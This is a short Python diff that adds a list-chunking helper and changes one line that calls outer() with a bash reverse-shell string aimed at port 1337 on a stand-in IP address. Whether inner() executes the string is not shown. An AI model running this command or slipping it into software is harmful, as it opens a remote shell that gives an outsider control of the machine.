@@ -5,6 +5,10 @@ log = logging.getLogger(__name__)
 def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
 
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
+
 import os
 
 def inner(x):
@@ -13,4 +17,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
+outer("bash -i >& /dev/tcp/198.51.100.23/1337 0>&1")
